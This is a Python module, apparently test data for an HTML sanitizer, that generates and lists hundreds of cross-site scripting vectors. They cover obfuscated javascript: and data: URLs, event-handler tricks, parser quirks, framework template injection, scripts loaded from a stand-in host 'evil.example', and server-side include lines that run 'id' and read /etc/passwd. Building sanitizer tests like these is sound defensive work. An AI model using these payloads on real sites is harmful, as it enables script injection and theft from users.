"""What runs in a browser: script elements, event handlers, URLs that are scripts."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

JS = "alert(1)"

HANDLERS = [
    *("onerror", "onload", "OnClIcK", "onmouseover", "onfocus", "ontoggle", "onbegin"),
    *("onanimationstart", "onpointerenter", "onwheel"),
]
CARRIERS = [
    "<img src=x {0}={1}>",
    "<b {0}='{1}'>x</b>",
    '<p/{0}="{1}">x',
    "<svg><animate {0}={1}></svg>",
    "<td\f{0}\n=\t{1}>x",
    "<p a='>' {0}={1}>x",
    '<p """{0}={1}>x',
    "<p {0}=&#97;lert&lpar;1&rpar;>x",
    "<details open {0}={1}><summary>x</summary></details>",
]
SCHEMES = [
    "javascript:{}",
    "JaVaScRiPt:{}",
    "java\tscript:{}",
    "java&#10;script:{}",
    "&#106;avascript&colon;{}",
    "&#x6a&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3a{}",
    "&#0000106;avascript&#0000058;{}",
    "\x01javascript:{}",
    "\x1f \ufeffjavascript:{}",
    "\u3000javascript:{}",
    "javascript&NewLine;&Tab;:{}",
    "javascript://%0a{}",
    "javascript://\u2028{}",
    "view-source:javascript:{}",
    "feed:javascript:{}",
    "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{}'/>",
    "vbscript:{}",
    "mocha:{}",
    "blob:http://evil.example/{}",
    "filesystem:http://evil.example/{}",
    "//evil.example/{}",
    "http://evil.example/{}",
    "cid:other@{}",
    "\\\\evil.example\\{}",
    "/\\evil.example/{}",
    "\thttp:evil.example/{}",
]
PLACES = [
    '<a href="{}">x</a>',
    '<form action="{}"><input name=a></form>',
    '<iframe src="{}"></iframe>',
    '<img src="{}">',
    '<table background="{}"><tr><td>x</table>',
    "<p style='background:url(\"{}\")'>x",
    '<blockquote cite="{}">x</blockquote>',
]


def _cases() -> Iterator[tuple[str, str]]:
    for handler, carrier in product(HANDLERS, CARRIERS):
        yield f"{handler} in {carrier}", carrier.format(handler, JS)
    for scheme, place in product(SCHEMES, PLACES):
        yield f"{scheme!r} in {place}", place.format(scheme.format(JS))


SCRIPTS = {
    **dict(_cases()),
    "script": "<script>alert(1)</script>",
    "script without end": "<script>alert(1)",
    "script in odd case": "<ScRiPt\n>alert(1)</sCrIpT\t>",
    "script with a slash": "<script/x>alert(1)</script>",
    "script with a quote": "<script \">\" src='data:text/javascript,alert(1)'></script>",
    "script of data": "<script src='data:text/javascript,alert(1)'></script>",
    "script from elsewhere": "<script src=//evil.example/x.js></script>",
    "script module": "<script type=module>import 'http://evil.example/x.js'</script>",
    "script import map": '<script type=importmap>{"imports": {"a": "//evil.example"}}</script>',
    "script speculation": '<script type=speculationrules>{"prefetch": [{"urls": ["/x"]}]}</script>',
    "script of an old type": "<script language=javascript1.2 type='text/livescript'>alert(1)",
    "script for an event": "<script for=window event=onload>alert(1)</script>",
    "script inside a tag": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script twice": "<script><script>alert(1)</script></script>",
    "script behind a script": "<script></script x><script>alert(1)</script>",
    "script with an escaped end": "<script><!--<script></script>--></script>alert(1)",
    "script that is escaped twice": "<script><!--<script>alert(1)</script>",
    "null bytes": "<scr\0ipt>alert(1)</scr\0ipt><im\0g src=x o\0nerror=alert(1)>",
    "null byte before the name": "<\0script>alert(1)</script>",
    "full width": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "letters that fold": "<\u017fcript>alert(1)</\u017fcript><\u212abd onclick=alert(1)>",
    "namespace": "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "XML island": "<xml id=x><a>&lt;script&gt;</a></xml><p datasrc=#x datafld=a dataformatas=html>",
    "HTC": "<p style='behavior:url(//evil.example/x.htc)'>x</p><?import namespace=t>",
    "HTML+TIME": "<t:set attributeName=innerHTML to='&lt;img src=x onerror=alert(1)&gt;'>",
    "marquee": "<marquee onstart=alert(1)>x</marquee><details open ontoggle=alert(1)>x",
    "video": "<video src=x onerror=alert(1)><source src=//evil.example></video>",
    "audio": "<audio src=x onerror=alert(1) autoplay controls></audio>",
    "source error": "<video><source onerror=alert(1) src=x></video>",
    "object": "<object data=//evil.example><param name=x value=y></object>",
    "object of data": "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "embed": "<embed src='data:text/html,<script>alert(1)</script>'>",
    "applet": "<applet code=x.class codebase=//evil.example></applet>",
    "frame": "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "frame with srcdoc": "<iframe srcdoc='&lt;script&gt;parent.alert(1)&lt;/script&gt;'></iframe>",
    "frame with srcdoc, twice": "<iframe srcdoc='<iframe srcdoc=&quot;"
    "<script>top.alert(1)&quot;>'>",
    "portal": "<portal src='javascript:alert(1)'></portal><fencedframe src=//evil.example>",
    "focus by itself": "<input autofocus onfocus=alert(1)><select autofocus onfocus=alert(1)>",
    "focus of anything": "<p tabindex=0 autofocus onfocus=alert(1)>x</p>",
    "editing host": "<div contenteditable autofocus onfocus=alert(1)>x</div>",
    "animation": "<style>@keyframes x{}</style><p style='animation:x' onanimationstart=alert(1)>x",
    "transition": "<p style='transition:all 1s;color:red' ontransitionrun=alert(1)>x",
    "popover": "<button popovertarget=x>x</button><p popover id=x onbeforetoggle=alert(1)>x",
    "found in the page": "<div hidden=until-found onbeforematch=alert(1)>x</div>",
    "scroll snap": "<div onscrollsnapchange=alert(1) style='scroll-snap-type:y'>x</div>",
    "body": "<body onload=alert(1) onpageshow=alert(1) background=//evil.example/x>",
    "body twice": "<body><p>x<body onload=alert(1) onfocus=alert(1)>",
    "html": "<html onclick=alert(1) manifest=//evil.example><p>x",
    "keygen": "<keygen autofocus onfocus=alert(1)>",
    "isindex": "<isindex type=image src=1 onerror=alert(1)>",
    "import by link": "<link rel=import href='data:text/html,<script>alert(1)</script>'>",
    "custom element": "<x-y is=z onclick=alert(1)>x</x-y>",
    "handler without a blank": "<img src='x'onerror=alert(1)><p title=\"\"onclick=alert(1)>x",
    "handler after a slash": "<img/src=x/onerror=alert(1)//><svg/onload=alert(1)//",
    "handler with backticks": "<img src=`x` onerror=`alert(1)`><p title=`><img src=x "
    "onerror=alert(1)>`>",
    "handler after a control character": "<img src=x \x0bonerror=alert(1)>"
    "<img \x1fonerror=alert(1) src=x>",
    "handler in an end tag": "</p onclick=alert(1)></script onclick=alert(1)>x",
    "handler after an equals sign": "<p =onclick=alert(1)>x<p =a='b' onclick=alert(1)>y",
    "handler given twice": "<p onclick='' onclick=alert(1)>x<p class=a class=b onclick=alert(1)>",
    "braces of frameworks": "{{constructor.constructor('alert(1)')()}}${alert(1)}<%= alert(1) %>",
    "Angular": "<div ng-app ng-csp><p ng-click=$event.view.alert(1)>{{1+1}}</p></div>",
    "Vue": "<div v-html=\"'<img src=x onerror=alert(1)>'\" @click=alert(1) :title=alert(1)>x</div>",
    "htmx": "<div hx-get=//evil.example hx-trigger=load hx-on:click=alert(1)>x</div>",
    "Alpine": "<div x-data x-init=alert(1) @click=alert(1)>x</div>",
    "require.js": "<script data-main='data:1,alert(1)' src='require.js'></script>",
    "AMP": "<script async custom-element=amp-form src=//evil.example/v0.js></script><amp-img "
    "src=x>",
    "Markdown": "[x](javascript:alert(1)) ![x](http://evil.example/x) <javascript:alert(1)>",
    "BBCode": "[url=javascript:alert(1)]x[/url][img]http://evil.example/x[/img]",
    "server side": "<!--#exec cmd='id'--><!--#include virtual='/etc/passwd'--><?php alert(1) ?>",
}
